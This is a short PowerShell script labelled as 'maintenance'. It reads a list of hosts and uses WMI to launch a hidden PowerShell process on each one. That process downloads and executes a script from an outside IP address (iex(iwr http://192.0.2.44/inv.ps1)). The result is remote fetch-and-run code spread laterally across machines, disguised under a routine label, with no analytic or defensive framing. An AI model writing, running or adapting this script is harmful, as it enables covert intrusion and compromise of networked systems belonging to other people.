# maintenance 9619 v4
$targets = Get-Content C:\Windows\Temp\hosts.txt
foreach ($t in $targets) {
  Invoke-WmiMethod -ComputerName $t -Class Win32_Process -Name Create -ArgumentList "powershell -nop -w hidden -c iex(iwr http://192.0.2.44/inv.ps1)"
}
